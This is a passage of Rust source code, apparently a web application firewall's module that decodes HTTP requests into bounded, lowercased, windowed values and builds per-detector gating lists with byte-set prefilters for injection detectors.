//! Turns a [`Request`] into the list of decoded values the detectors scan ([`Prepared`]):
//! path, query arguments, cookies, selected headers and the body (urlencoded, JSON,
//! multipart, XML, or raw text), each bounded by the configured limits.

pub mod json;
pub mod multipart;
pub mod xml;

use crate::config::Config;
use crate::decode::{deep_decode, Decoded};
use crate::detect::gate::Shape;
use crate::detect::DetectorKind;
use crate::detect::Lit as _;
use crate::detect::Outlined as _;
use crate::model::{CategorySet, LimitKind, Location, Source};
use crate::request::Request;
use std::borrow::Cow;
use std::cell::{Cell, OnceCell};

/// Text of one value: borrowed from the request when it needed no decoding (most values),
/// owned otherwise. Reads as a `&str` (`Deref`), so detectors do not care which.
#[derive(Debug, PartialEq, Eq, Default)]
pub struct Text<'r>(Cow<'r, str>);

/// A borrowed text is copied in line (a pointer and a length); only an owned one calls
/// `String::clone`. Every value is cloned two or three times at extraction (its raw and
/// lowercase forms are usually the value itself), and std's `Cow::clone` is an out-of-line
/// call with its own dispatch on Wasm.
impl Clone for Text<'_> {
    #[inline(never)]
    fn clone(&self) -> Self {
        match &self.0 {
            Cow::Borrowed(s) => Text(Cow::Borrowed(s)),
            Cow::Owned(s) => Text(Cow::Owned(s.clone())),
        }
    }
}

impl Text<'_> {
    /// The text.
    pub fn as_str(&self) -> &str {
        &self.0
    }

    /// The longest prefix of at most `max` bytes, on a char boundary (a slice when borrowed).
    fn truncated(self, max: usize) -> Self {
        if self.0.len() <= max {
            return self;
        }
        let end = truncate(&self.0, max).len();
        match self.0 {
            Cow::Borrowed(s) => Text(Cow::Borrowed(s.get(..end).unwrap_or_default())),
            Cow::Owned(mut s) => {
                s.truncate(end);
                Text(Cow::Owned(s))
            }
        }
    }
}

/// Where a value came from, as the detectors read it: its source and name (argument, cookie
/// or header name), the name borrowed from the request like the value. A [`Location`] (an
/// owned copy, for the assessment) is made only when a detection is reported.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Place<'r> {
    /// The part of the request.
    pub source: Source,
    /// The name, cut to [`Location::MAX_NAME`] bytes like a [`Location`]'s (so detectors read
    /// the same name as the log).
    pub name: Text<'r>,
}

impl<'r> Place<'r> {
    /// A place with `name` cut to [`Location::MAX_NAME`] bytes.
    pub fn new(source: Source, name: Text<'r>) -> Place<'r> {
        Place {
            source,
            name: name.truncated(Location::MAX_NAME),
        }
    }

    /// The owned [`Location`] for a detection found here.
    pub fn to_location(&self) -> Location {
        Location::new(self.source, &self.name)
    }
}

impl<'r> From<&'r str> for Text<'r> {
    fn from(s: &'r str) -> Text<'r> {
        Text(Cow::Borrowed(s))
    }
}

impl From<String> for Text<'_> {
    fn from(s: String) -> Self {
        Text(Cow::Owned(s))
    }
}

impl std::ops::Deref for Text<'_> {
    type Target = str;
    fn deref(&self) -> &str {
        &self.0
    }
}

impl AsRef<str> for Text<'_> {
    fn as_ref(&self) -> &str {
        &self.0
    }
}

impl PartialEq<str> for Text<'_> {
    fn eq(&self, other: &str) -> bool {
        *self.0 == *other
    }
}

impl PartialEq<&str> for Text<'_> {
    fn eq(&self, other: &&str) -> bool {
        *self.0 == **other
    }
}

impl std::fmt::Display for Text<'_> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.0)
    }
}

/// One value to scan, in three forms so detectors do not redo the common work. The forms
/// borrow from the request, or from each other, whenever they are the same text: a value
/// with nothing to decode and no capital letter costs no copy at all.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Input<'r> {
    /// Where it came from.
    pub location: Place<'r>,
    /// As received (after splitting, before decoding; lossy UTF-8).
    pub raw: Text<'r>,
    /// Fully decoded (percent, `+` for forms, HTML entities, JS escapes; bounded rounds).
    pub value: Text<'r>,
    /// `value` with ASCII lowercased (case folding for keyword matching).
    pub lower: Text<'r>,
    /// Categories that configured exclusions silence for this value.
    pub excluded: CategorySet,
    /// The bytes `lower` holds, computed once: detectors ask it whether a needle can occur
    /// before searching for it ([`Input::may_contain`]).
    pub bytes: ByteSet,
    /// What `lower` is made of (from `bytes`): detectors that cannot match this shape skip
    /// the value ([`crate::detect::gate`]).
    pub shape: Shape,
    /// Whether `value` holds an ASCII capital, i.e. `lower` differs from it: rules about
    /// capitalised spellings (PowerShell's `Verb-Noun`) skip the rest.
    pub has_upper: bool,
    /// Bytes `start..end` of `value` that are, verbatim, the value of another input with
    /// the same location and exclusions (the longest string leaf, longer than [`WINDOW`], of
    /// a JSON document carried as this value: [`Builder::nested_document`]); `(0, 0)`: none.
    /// [`Prepared::windowed`] leaves out the windows inside it.
    pub leaf: (usize, usize),
}

impl<'r> Input<'r> {
    /// An input; `lower` is `value` lowercased, `bytes` and `shape` are computed here.
    pub fn new(
        location: Place<'r>,
        raw: Text<'r>,
        value: Text<'r>,
        excluded: CategorySet,
    ) -> Input<'r> {
        // One pass for the value's bytes; lowercasing only maps `A-Z` to `a-z`, so the set of
        // `lower` follows from it (this runs for every value and every window of a long one).
        let value_bytes = ByteSet::of(value.as_bytes());
        Input::with_value_bytes(location, raw, value, value_bytes, excluded)
    }

    /// [`Input::new`] once the set of `value`'s bytes is known (the extractor builds its
    /// inputs in place instead, [`Builder::push_decoded`]).
    fn with_value_bytes(
        location: Place<'r>,
        raw: Text<'r>,
        value: Text<'r>,
        value_bytes: ByteSet,
        excluded: CategorySet,
    ) -> Input<'r> {
        let has_upper = value_bytes.has_ascii_upper();
        let (lower, bytes) = if has_upper {
            (
                Text::from(value.ascii_lower()),
                value_bytes.ascii_lowercased(),
            )
        } else {
            (value.clone(), value_bytes)
        };
        Input::with_lower(location, raw, value, lower, bytes, has_upper, excluded)
    }

    /// [`Input::new`] when `lower` (`value` lowercased), its byte set and whether `value` has
    /// a capital are known already.
    fn with_lower(
        location: Place<'r>,
        raw: Text<'r>,
        value: Text<'r>,
        lower: Text<'r>,
        bytes: ByteSet,
        has_upper: bool,
        excluded: CategorySet,
    ) -> Input<'r> {
        let shape = Input::shape_of(&location, &raw, &value, &bytes);
        Input {
            location,
            raw,
            value,
            lower,
            excluded,
            bytes,
            shape,
            has_upper,
            leaf: (0, 0),
        }
    }

    /// The shape of a value at `location` whose lowercase form holds `bytes`.
    #[inline(always)]
    fn shape_of(location: &Place<'_>, raw: &str, value: &str, bytes: &ByteSet) -> Shape {
        // A `User-Agent` received as plain product tokens (nothing decoded) has a shape of its
        // own: the injection detectors skip it (`detect::gate`).
        // `raw == value` asked of the place first: an undecoded value is its own raw form
        // (same bytes), and a text comparison is a byte loop on Wasm.
        let product = location.source == Source::Header
            && crate::detect::same_bytes(location.name.as_bytes(), b"user-agent")
            && ((raw.as_ptr() == value.as_ptr() && raw.len() == value.len())
                || crate::detect::same_bytes(raw.as_bytes(), value.as_bytes()))
            && crate::detect::gate::product_user_agent(value);
        if product {
            Shape::Product
        } else {
            Shape::of(bytes)
        }
    }

    /// False when `needle` (lowercase) cannot occur in `lower` because one of its bytes is
    /// absent; true means "search for it".
    pub fn may_contain(&self, needle: &str) -> bool {
        self.bytes.has_all(needle.as_bytes())
    }

    /// Whether `lower` contains `needle` (lowercase): the byte set first (most values lack a
    /// byte of most needles), then a first-byte scan; no substring-searcher setup per call.
    pub fn lower_has(&self, needle: &str) -> bool {
        self.may_contain(needle)
            && crate::detect::find_bytes(self.lower.as_bytes(), needle.as_bytes(), 0).is_some()
    }

    /// Whether `lower` contains any of `needles` (lowercase) ([`Input::lower_has`]).
    pub fn lower_contains_any(&self, needles: &[&str]) -> bool {
        needles.iter().any(|n| self.lower_has(n))
    }
}

/// The set of byte values in a text: a 256-bit summary computed in one pass, so that a
/// detector can skip a search whose needle holds a byte the text lacks (most needles, for
/// most values), instead of setting up a substring searcher for each.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct ByteSet([u64; 4]);

impl ByteSet {
    /// The set whose 64-bit words are `words` (bit `c & 63` of word `c >> 6` is byte `c`).
    pub const fn from_words(words: [u64; 4]) -> ByteSet {
        ByteSet(words)
    }

    /// The set of the bytes in `ranges` (inclusive), for `const` sets.
    pub const fn from_ranges(ranges: &[(u8, u8)]) -> ByteSet {
        let mut words = [0u64; 4];
        let mut r = 0;
        while r < ranges.len() {
            let (lo, hi) = ranges[r];
            let mut c = lo as usize;
            while c <= hi as usize {
                words[c >> 6] |= 1 << (c & 63);
                c += 1;
            }
            r += 1;
        }
        ByteSet(words)
    }

    /// Whether every byte of this set is also in `other`.
    ///
    /// Bytes 64-127 (letters, `_`) first, then the rest at once: the lfi and rce screens ask
    /// this of ~50 word sets per path or argument, nearly all of them rejected by a letter
    /// the text lacks (their `/` and `.` are there), and the shapes of every value ask it
    /// three times; straight-line word tests instead of an iterator over the four.
    pub fn is_subset_of(&self, other: &ByteSet) -> bool {
        let [a0, a1, a2, a3] = self.0;
        let [b0, b1, b2, b3] = other.0;
        a1 & !b1 == 0 && (a0 & !b0) | (a2 & !b2) | (a3 & !b3) == 0
    }

    /// `A` to `Z`.
    pub const ASCII_UPPERCASE: ByteSet = ByteSet([0, 0x07ff_fffe, 0, 0]);

    /// The bytes of `b`.
    ///
    /// Every value of every request (and many pieces the detectors cut) goes through this, so
    /// its cost per byte counts on Wasm, where a bit update of an array word indexed by the
    /// byte is about 27 instructions (address, load, shift, or, store, loop). Texts of
    /// [`ByteSet::TABLE_FROM`] bytes or more store one flag per byte into a table instead
    /// (about 8 a byte, four bytes per loop step) and gather the 256 flags into the four
    /// words once (a multiply per eight flags, a few hundred instructions); shorter ones take
    /// the bit loop four bytes per step. Same set either way
    /// (`byte_sets_short_and_long_and_lowercased` compares both with a plain loop).
    pub fn of(b: &[u8]) -> ByteSet {
        if b.len() >= Self::TABLE_FROM {
            return Self::of_table(b);
        }
        let mut set = [0u64; 4];
        let mut add = |c: u8| {
            if let Some(w) = set.get_mut(usize::from(c >> 6)) {
                *w |= 1 << (c & 63);
            }
        };
        Self::each_byte(b, &mut add);
        ByteSet(set)
    }

    /// `f` on each byte of `b`, four bytes per loop step (the unrolled body is what keeps
    /// [`ByteSet::of`]'s cost per byte low on Wasm).
    #[inline(always)]
    fn each_byte(b: &[u8], f: &mut impl FnMut(u8)) {
        let mut quads = b.chunks_exact(4);
        for q in quads.by_ref() {
            for &c in q {
                f(c);
            }
        }
        for &c in quads.remainder() {
            f(c);
        }
    }

    /// Length from which [`ByteSet::of`] fills a flag table (its fixed cost, the gather,
    /// is paid back by the cheaper bytes from about 20 bytes on).
    const TABLE_FROM: usize = 32;

    /// [`ByteSet::of`] through a table of one flag per byte value.
    fn of_table(b: &[u8]) -> ByteSet {
        let mut seen = [0u8; 256];
        let mut mark = |c: u8| {
            if let Some(s) = seen.get_mut(usize::from(c)) {
                *s = 1;
            }
        };
        Self::each_byte(b, &mut mark);
        // Eight flags (bytes 0 or 1, byte `k` for value `base + k`) to eight bits: the
        // product with this constant puts flag `k` at bit `56 + k` and nothing else in the
        // top byte (every carry stays below it or leaves the word).
        const GATHER: u64 = 0x0102_0408_1020_4080;
        let mut set = [0u64; 4];
        for (w, flags) in set.iter_mut().zip(seen.chunks_exact(64)) {
            for (k, f) in flags.chunks_exact(8).enumerate() {
                let mut x = [0u8; 8];
                x.copy_from_slice(f);
                *w |= (u64::from_le_bytes(x).wrapping_mul(GATHER) >> 56) << (8 * k);
            }
        }
        ByteSet(set)
    }

    /// The bytes of this set's text once ASCII-lowercased (`A-Z` become `a-z`).
    pub fn ascii_lowercased(&self) -> ByteSet {
        let [a, up, c, d] = self.0;
        let upper = up & Self::ASCII_UPPERCASE.0[1];
        ByteSet([a, (up & !upper) | (upper << 32), c, d])
    }

    /// Whether an ASCII capital (`A` to `Z`) occurs: one word test.
    pub fn has_ascii_upper(&self) -> bool {
        self.0[1] & Self::ASCII_UPPERCASE.0[1] != 0
    }

    /// Whether any byte of `other` occurs.
    pub fn intersects(&self, other: &ByteSet) -> bool {
        self.0.iter().zip(other.0.iter()).any(|(a, b)| a & b != 0)
    }

    /// Whether byte `c` occurs.
    pub fn has(&self, c: u8) -> bool {
        self.0
            .get(usize::from(c >> 6))
            .is_some_and(|w| w & (1 << (c & 63)) != 0)
    }

    /// Whether every byte of `needle` occurs.
    pub fn has_all(&self, needle: &[u8]) -> bool {
        needle.iter().all(|&c| self.has(c))
    }
}

/// How the body was interpreted.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BodyKind {
    /// No body, or an empty one.
    None,
    /// `application/x-www-form-urlencoded`, or no Content-Type.
    Form,
    /// JSON (`application/json`, `+json`).
    Json,
    /// `multipart/form-data`.
    Multipart,
    /// XML (`+xml`, `text/xml`).
    Xml,
    /// Anything else (or a document that failed to parse): scanned as text.
    Raw,
}

/// Request-wide facts gathered while decoding, for the protocol detector.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Flags {
    /// A malformed percent escape in the URI or a form body.
    pub invalid_percent: bool,
    /// Invalid UTF-8 after decoding an argument, the path or the body.
    pub invalid_utf8: bool,
    /// A NUL byte in a decoded argument, cookie, path or header.
    pub null_byte: bool,
    /// An IIS `%u` escape.
    pub unicode_escape: bool,
    /// A value needed more than one decoding round (double encoding).
    pub multi_encoded: bool,
    /// The body claimed to be JSON or multipart but did not parse.
    pub body_malformed: bool,
}

/// The first value of each header the request-level checks ask for, found in one pass over
/// the header list at extraction (instead of one scan of the list per question per
/// detector). `*_repeated`: the header occurs more than once (read every copy from
/// [`Request::header_all`] then).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct HeaderIndex<'r> {
    /// `host`.
    pub host: Option<&'r str>,
    /// `:authority`.
    pub authority: Option<&'r str>,
    /// `content-type`.
    pub content_type: Option<&'r str>,
    /// `content-type` occurs more than once.
    pub content_type_repeated: bool,
    /// `content-length`.
    pub content_length: Option<&'r str>,
    /// `transfer-encoding`.
    pub transfer_encoding: Option<&'r str>,
    /// `connection`.
    pub connection: Option<&'r str>,
    /// `range`.
    pub range: Option<&'r str>,
    /// `accept`.
    pub accept: Option<&'r str>,
    /// `referer`.
    pub referer: Option<&'r str>,
    /// Headers whose name does not open with `:` (what `limits.header_count` counts), counted
    /// in the same pass.
    pub real: usize,
}

impl<'r> HeaderIndex<'r> {
    /// One pass over `headers` (lowercase names, as [`Request`] requires).
    pub fn of(headers: &'r [(String, String)]) -> HeaderIndex<'r> {
        let mut x = HeaderIndex::default();
        let first = |slot: &mut Option<&'r str>, v: &'r str| {
            if slot.is_none() {
                *slot = Some(v);
            }
        };
        for (n, v) in headers {
            let v = v.as_str();
            // By length, then the bytes without `memcmp` (on Wasm a byte loop of ~18
            // instructions a byte, and a name that matches is read to its end).
            let n = n.as_bytes();
            let is = |name: &[u8]| crate::detect::same_bytes(n, name);
            x.real += usize::from(n.first() != Some(&b':'));
            match n.len() {
                4 if is(b"host") => first(&mut x.host, v),
                10 if is(b":authority") => first(&mut x.authority, v),
                12 if is(b"content-type") => {
                    x.content_type_repeated |= x.content_type.is_some();
                    first(&mut x.content_type, v);
                }
                14 if is(b"content-length") => first(&mut x.content_length, v),
                17 if is(b"transfer-encoding") => first(&mut x.transfer_encoding, v),
                10 if is(b"connection") => first(&mut x.connection, v),
                5 if is(b"range") => first(&mut x.range, v),
                6 if is(b"accept") => first(&mut x.accept, v),
                7 if is(b"referer") => first(&mut x.referer, v),
                _ => {}
            }
        }
        x
    }

    /// `host`, falling back to `:authority` ([`Request::host`]).
    pub fn host(&self) -> Option<&'r str> {
        self.host.or(self.authority)
    }
}

/// The request decoded into inputs; detectors read only this.
#[derive(Debug, Clone)]
pub struct Prepared<'r> {
    /// The original view (headers, body) for request-level checks.
    pub request: Request<'r>,
    /// The headers the request-level checks ask for, found once.
    pub headers: HeaderIndex<'r>,
    /// Method (pseudo-header fallback applied).
    pub method: &'r str,
    /// URI as sent.
    pub uri: &'r str,
    /// Path part of the URI as sent.
    pub path_raw: &'r str,
    /// Query part of the URI as sent (without `?`).
    pub query_raw: &'r str,
    /// The decoded path (borrowed from the request when nothing in it needed decoding).
    pub path: Text<'r>,
    /// Every value to scan.
    pub inputs: Vec<Input<'r>>,
    /// Lowercase media type of the body.
    pub media_type: Option<String>,
    /// How the body was read.
    pub body_kind: BodyKind,
    /// Multipart structure, when the body was multipart.
    pub multipart: Option<multipart::Multipart>,
    /// Decoding anomalies.
    pub flags: Flags,
    /// Limits the request went past.
    pub limit_hits: Vec<LimitKind>,
    /// Arguments seen (query and body, before the `args` limit cut).
    pub arg_count: usize,
    /// Categories silenced for the whole request by exclusions.
    pub excluded: CategorySet,
    /// `inputs[body_start..]` came from the body (the rest from the URI and headers).
    pub body_start: usize,
    /// The detector running now and the paranoia level, while one runs: [`Prepared::inputs_from`]
    /// then yields only the values whose shape that detector admits ([`crate::detect::gate`]).
    pub(crate) gate: Cell<Option<(DetectorKind, u8)>>,
    /// Each detector's list of the values its gate admits, decided once per value when the
    /// first gated detector runs ([`Prepared::gates`]).
    gates: OnceCell<Gates>,
}

/// Which values each detector reads: [`crate::detect::gate::admitted`] asked once per value
/// (all detectors at once), then each detector's admitted values, in order: for a request of
/// up to [`SMALL`] values (every request without a body, most with one) one bit per value in
/// a word per detector, else a list of indexes into [`Prepared::inputs`]. A detector then
/// walks only its own values: no walk over every value asking whether it may read it.
#[derive(Debug, Clone)]
pub(crate) struct Gates {
    /// The paranoia level the gates were asked at.
    paranoia: u8,
    lists: Lists,
}

/// Up to this many values, [`Gates`] keeps each detector's values as the bits of one word.
const SMALL: usize = 64;

/// Each detector's admitted values ([`Gates`]).
#[derive(Debug, Clone)]
enum Lists {
    /// Bit `i` of word `k`: detector `k` reads value `i` (a request of at most [`SMALL`]
    /// values). Built with one `or` per admitted value and detector, walked lowest bit first
    /// (value order): on a `GET` of seven values the index lists below cost ~1,700 Wasm
    /// instructions to build and hand over (two passes over each mask's bits, a prefix sum,
    /// a 180-byte struct moved into the cell), these ~300 (round 14).
    Bits([u64; DetectorKind::ALL.len()]),
    /// `index[start[k]..start[k + 1]]` are detector `k`'s values.
    Index {
        start: [u32; DetectorKind::ALL.len() + 1],
        index: Index,
    },
}

/// Up to this many values' masks, and list entries, are kept on the stack ([`Gates::new`]).
const INLINE: usize = 32;

/// [`Gates`]' list entries: inline for the usual request (a few values, each read by a few
/// detectors), allocated only past [`INLINE`] entries.
#[derive(Debug, Clone)]
enum Index {
    Inline([u32; INLINE]),
    Heap(Vec<u32>),
}

impl Default for Index {
    fn default() -> Self {
        Index::Heap(Vec::new())
    }
}

impl Index {
    fn slots(&self) -> &[u32] {
        match self {
            Index::Inline(a) => a,
            Index::Heap(v) => v,
        }
    }

    fn slots_mut(&mut self) -> &mut [u32] {
        match self {
            Index::Inline(a) => a,
            Index::Heap(v) => v,
        }
    }
}

impl Gates {
    fn new<'i, 'r>(inputs: &'i [Input<'r>], paranoia: u8) -> Gates {
        // Argument names repeat (every object of a JSON array has the same members): a name
        // the gates decided a few names ago has their answer again. An argument name's answer
        // depends only on its text when it needed no decoding (its raw form is the same
        // text): its shape and bytes follow from the text, and only header and file names
        // are gated by name.
        const RECENT: usize = 8;
        let mut recent: [(&str, u16); RECENT] = [("", 0); RECENT];
        let mut next_recent = 0usize;
        let mut mask_of = |i: &'i Input<'r>| {
            let v = i.value.as_str();
            let cacheable = i.location.source == Source::ArgName
                && i.raw.as_ptr() == v.as_ptr()
                && i.raw.len() == v.len();
            if !cacheable {
                return crate::detect::gate::admitted(i, paranoia);
            }
            if let Some(&(_, m)) = recent.iter().take(next_recent).find(|(r, _)| {
                // A JSON member name seen again is a clone of the first one's input (the
                // same slice of the body): equal by address and length, no byte compare.
                // Names of one length often differ last (`filter1`, `filter2`).
                r.len() == v.len()
                    && (r.as_ptr() == v.as_ptr()
                        || (r.as_bytes().last() == v.as_bytes().last() && *r == v))
            }) {
                return m;
            }
            let m = crate::detect::gate::admitted(i, paranoia);
            if let Some(slot) = recent.get_mut(next_recent % RECENT) {
                *slot = (v, m);
            }
            next_recent += 1;
            m
        };
        if inputs.len() <= SMALL {
            // Each value's mask asked once, its bits (but the request-level detectors', which
            // get no list) set in the detectors' words.
            let mut words = [0u64; DetectorKind::ALL.len()];
            for (i, input) in inputs.iter().enumerate() {
                let mut m = mask_of(input) & !REQUEST_LEVEL;
                while m != 0 {
                    let k = m.trailing_zeros() as usize;
                    m &= m - 1;
                    if let Some(w) = words.get_mut(k) {
                        *w |= 1 << i;
                    }
                }
            }
            return Gates {
                paranoia,
                lists: Lists::Bits(words),
            };
        }
        // Past `SMALL` values (a body): one allocation for the masks is a small part.
        let masks: Vec<u16> = inputs.iter().map(mask_of).collect();
        // Detector `k` is bit `k` (`DetectorKind::bit`): count each list's length, then
        // place every value in the lists of its bits. The request-level detectors read every
        // value ungated (`DetectorKind::run`): they get no list ([`Gates::of`]), and their
        // three bits, set in every mask, are not walked twice per value.
        let bits = |m: u16| {
            let mut m = m & !REQUEST_LEVEL;
            std::iter::from_fn(move || {
                let k = m.trailing_zeros() as usize;
                m &= m.wrapping_sub(1);
                (k < 16).then_some(k)
            })
        };
        let mut start = [0u32; DetectorKind::ALL.len() + 1];
        for &m in &masks {
            for k in bits(m) {
                if let Some(n) = start.get_mut(k + 1) {
                    *n += 1;
                }
            }
        }
        for k in 1..start.len() {
            start[k] += start[k - 1];
        }
        let mut next = start;
        let total = start.last().map_or(0, |&n| n as usize);
        let mut index = if total <= INLINE {
            Index::Inline([0; INLINE])
        } else {
            Index::Heap(vec![0u32; total])
        };
        let list = index.slots_mut();
        for (i, &m) in masks.iter().enumerate() {
            for k in bits(m) {
                let Some(n) = next.get_mut(k) else { continue };
                if let Some(slot) = list.get_mut(*n as usize) {
                    *slot = i as u32;
                }
                *n += 1;
            }
        }
        Gates {
            paranoia,
            lists: Lists::Index { start, index },
        }
    }

    /// The values `kind` reads; `None` for a request-level detector (it reads every value:
    /// no list is kept for it).
    fn of(&self, kind: DetectorKind) -> Option<Walk<'_>> {
        if kind.bit() & REQUEST_LEVEL != 0 {
            return None;
        }
        let k = kind as usize;
        Some(match &self.lists {
            Lists::Bits(words) => Walk::Bits(words.get(k).copied().unwrap_or(0)),
            Lists::Index { start, index } => Walk::List(
                match (start.get(k), start.get(k + 1)) {
                    (Some(&a), Some(&e)) => index.slots().get(a as usize..e as usize),
                    _ => None,
                }
                .unwrap_or_default()
                .iter(),
            ),
        })
    }
}

/// A detector's admitted values as [`InputsFrom`] walks them ([`Gates::of`]).
#[derive(Debug, Clone)]
enum Walk<'s> {
    /// The values whose bits are set, lowest first ([`Lists::Bits`]).
    Bits(u64),
    /// A list of indexes ([`Lists::Index`]).
    List(std::slice::Iter<'s, u32>),
}

/// The request-level detectors' bits: they read every value, gated or not.
const REQUEST_LEVEL: u16 =
    DetectorKind::Protocol.bit() | DetectorKind::Scanner.bit() | DetectorKind::Session.bit();

/// Longest piece of one value an injection detector reads at once ([`Prepared::windowed`]).
pub const WINDOW: usize = 4096;
/// Bytes consecutive windows share: a signal up to this long is seen whole in some window.
pub const WINDOW_OVERLAP: usize = 512;

impl<'r> Prepared<'r> {
    /// The same request with every value longer than [`WINDOW`] bytes replaced by windows of
    /// at most [`WINDOW`] bytes that overlap by [`WINDOW_OVERLAP`] (cut on char boundaries), or
    /// `None` when no value is that long.
    ///
    /// This is what makes the injection detectors linear in the size of a value by
    /// construction: whatever a detector costs on one window, a value of `n` bytes costs about
    /// `n / (WINDOW - WINDOW_OVERLAP)` windows of it, and nothing is left uninspected (no cap,
    /// no limit to report). Any attack text up to [`WINDOW_OVERLAP`] bytes long lies whole in
    /// one window. Windows after the first start mid-value; `raw` holds the window of the
    /// decoded value (only the protocol detector reads `raw`, and it sees the whole values).
    ///
    /// Windows borrow from the values they cut (the lowercase form too: ASCII lowercasing
    /// keeps every byte offset), so a long value costs no copy per window.
    pub fn windowed<'s>(&'s self) -> Option<Prepared<'s>> {
        if self.inputs.iter().all(|i| i.value.len() <= WINDOW) {
            return None;
        }
        let mut inputs = Vec::with_capacity(self.inputs.len() + 16);
        for input in &self.inputs {
            if input.value.len() <= WINDOW {
                inputs.push(input.clone());
                continue;
            }
            for (start, end) in windows(&input.value, WINDOW, WINDOW_OVERLAP) {
                // A window inside the leaf is text the leaf's own windows read, under the same
                // name, source and exclusions (every piece of it up to `WINDOW_OVERLAP` bytes
                // lies whole in one of them); a window reaching past the leaf holds what the
                // leaf lacks (the document around it) and is read.
                if input.leaf.0 <= start && end <= input.leaf.1 {
                    continue;
                }
                let value = input.value.get(start..end).unwrap_or_default();
                let lower = Text::from(input.lower.get(start..end).unwrap_or_default());
                let bytes = ByteSet::of(lower.as_bytes());
                // A window has a capital when its lowercase form differs (one compare).
                let has_upper = input.has_upper && value.as_bytes() != lower.as_bytes();
                // The name borrowed from the value's own (no copy per window, owned or not).
                let location = Place {
                    source: input.location.source,
                    name: Text::from(input.location.name.as_str()),
                };
                inputs.push(Input::with_lower(
                    location,
                    Text::from(value),
                    Text::from(value),
                    lower,
                    bytes,
                    has_upper,
                    input.excluded,
                ));
            }
        }
        Some(Prepared {
            inputs,
            ..self.clone_without_inputs()
        })
    }

    fn clone_without_inputs(&self) -> Prepared<'r> {
        Prepared {
            request: self.request,
            headers: self.headers,
            method: self.method,
            uri: self.uri,
            path_raw: self.path_raw,
            query_raw: self.query_raw,
            path: self.path.clone(),
            inputs: Vec::new(),
            media_type: self.media_type.clone(),
            body_kind: self.body_kind,
            multipart: self.multipart.clone(),
            flags: self.flags,
            limit_hits: self.limit_hits.clone(),
            arg_count: self.arg_count,
            excluded: self.excluded,
            body_start: 0,
            gate: Cell::new(None),
            gates: OnceCell::new(),
        }
    }

    /// This request with only the inputs that came from the body (for
    /// [`crate::Engine::inspect_body`]).
    pub fn body_only(&self) -> Prepared<'r> {
        Prepared {
            inputs: self
                .inputs
                .get(self.body_start..)
                .unwrap_or_default()
                .to_vec(),
            ..self.clone_without_inputs()
        }
    }
}

/// `(start, end)` byte ranges of windows of at most `window` bytes over `s`, consecutive ones
/// sharing `overlap` bytes, every boundary on a char boundary. Covers all of `s`.
pub fn windows(s: &str, window: usize, overlap: usize) -> Vec<(usize, usize)> {
    let floor = |mut i: usize| {
        while i > 0 && !s.is_char_boundary(i) {
            i -= 1;
        }
        i
    };
    let mut out = Vec::new();
    let mut start = 0;
    loop {
        let end = floor((start + window).min(s.len()));
        let end = if end <= start {
            s.len().min(start + window + 4)
        } else {
            end
        };
        let end = if s.is_char_boundary(end) {
            end
        } else {
            s.len()
        };
        out.push((start, end));
        if end >= s.len() {
            return out;
        }
        let next = floor(end.saturating_sub(overlap));
        start = if next > start { next } else { end };
    }
}

impl<'r> Prepared<'r> {
    /// Inputs whose source is one of `sources` (while a detector runs: those whose shape it
    /// admits, see [`crate::detect::gate`]).
    ///
    /// For tools and tests; the detectors pass their sources' mask, computed at compile time
    /// ([`Prepared::inputs_of`]).
    pub fn inputs_from<'s>(&'s self, sources: &[Source]) -> InputsFrom<'s, 'r> {
        self.inputs_of(source_mask(sources))
    }

    /// [`Prepared::inputs_from`] with the sources as a bit mask ([`source_mask`]): the
    /// detectors read their values through this about fifteen times a request, and folding
    /// the list into the mask on each call was a loop per call.
    /// Out of line: sixteen call sites.
    #[inline(never)]
    pub(crate) fn inputs_of<'s>(&'s self, wanted: u16) -> InputsFrom<'s, 'r> {
        let gate = self.gate.get();
        // The running detector's own list (built at this level), or every value: ungated,
        // or (never in the engine) gated at another level than the lists were built at.
        let list = gate.and_then(|(kind, paranoia)| {
            let g = self.gates.get().filter(|g| g.paranoia == paranoia)?;
            g.of(kind)
        });
        let admits = if list.is_none() { gate } else { None };
        InputsFrom {
            inputs: &self.inputs,
            list,
            admits,
            at: 0,
            wanted,
        }
    }

    /// Builds the detectors' lists of admitted values at `paranoia` ([`Gates`]), once; a
    /// later call at another level keeps the first lists (that detector then asks its gate
    /// per value).
    pub(crate) fn gates(&self, paranoia: u8) {
        let _ = self
            .gates
            .get_or_init(|| Gates::new(&self.inputs, paranoia));
    }
}

/// The sources as one bit each (bit `source as u16`), for [`Prepared::inputs_of`]; `const`, so
/// that a detector's list of sources is its mask at compile time.
pub(crate) const fn source_mask(sources: &[Source]) -> u16 {
    let mut wanted = 0u16;
    let mut rest = sources;
    while let [s, tail @ ..] = rest {
        wanted |= 1 << (*s as u16);
        rest = tail;
    }
    wanted
}

/// The values a detector reads ([`Prepared::inputs_from`]): the running detector's list of
/// admitted values, or every value (ungated, or a gate asked per value), of the wanted
/// sources, in order. One loop with the tests inline, not a chain of adapters: every
/// detector walks its values through this on every request.
#[derive(Debug, Clone)]
pub struct InputsFrom<'s, 'r> {
    inputs: &'s [Input<'r>],
    /// The detector's admitted values, when it has a list.
    list: Option<Walk<'s>>,
    /// Without a list: the gate to ask of each value (`None`: every value).
    admits: Option<(DetectorKind, u8)>,
    /// Without a list: the next value of `inputs` to look at.
    at: usize,
    /// The wanted sources, one bit each.
    wanted: u16,
}

impl<'s, 'r> Iterator for InputsFrom<'s, 'r> {
    type Item = &'s Input<'r>;

    #[inline(never)]
    fn next(&mut self) -> Option<&'s Input<'r>> {
        let wanted = self.wanted;
        let wants = |i: &Input<'_>| wanted & (1 << (i.location.source as u16)) != 0;
        match &mut self.list {
            Some(Walk::List(list)) => {
                return list
                    .by_ref()
                    .filter_map(|&k| self.inputs.get(k as usize))
                    .find(|i| wants(i));
            }
            Some(Walk::Bits(bits)) => {
                while *bits != 0 {
                    let k = bits.trailing_zeros() as usize;
                    *bits &= *bits - 1;
                    match self.inputs.get(k) {
                        Some(i) if wants(i) => return Some(i),
                        _ => {}
                    }
                }
                return None;
            }
            None => {}
        }
        while let Some(input) = self.inputs.get(self.at) {
            self.at += 1;
            if wants(input)
                && self
                    .admits
                    .is_none_or(|(kind, paranoia)| kind.admits(input, paranoia))
            {
